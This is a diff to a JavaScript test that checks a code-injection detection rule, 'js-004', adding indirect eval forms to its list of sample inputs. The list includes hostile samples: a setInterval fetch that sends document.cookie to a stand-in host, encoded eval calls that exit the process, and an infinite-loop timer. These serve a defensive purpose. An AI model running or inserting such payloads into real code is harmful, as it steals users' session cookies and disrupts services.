@@ -81,7 +81,7 @@ describe('js_injection', () => {
     assertRule('js-004', [
       "eval('process.exit()')", 'eval(String.fromCharCode(112,114,111))', "eval(atob('cHJvY2Vzcy5leGl0KCk='))",
       "eval(Buffer.from('cHJvY2Vzcy5leGl0KCk=', 'base64').toString())", 'setTimeout("while(1){}", 10)',
-      "setInterval('fetch(`//x.example/`+document.cookie)')", 'setTimeout(String.fromCharCode(97,108,101))', "vm.runInNewContext('1+1', {})", '1;vm.runInThisContext(code)',
+      "setInterval('fetch(`//x.example/`+document.cookie)')", 'setTimeout(String.fromCharCode(97,108,101))', "(0, eval)('process.exit()')", 'globalThis.eval("1")', "vm.runInNewContext('1+1', {})", '1;vm.runInThisContext(code)',
     ]);
   });
 
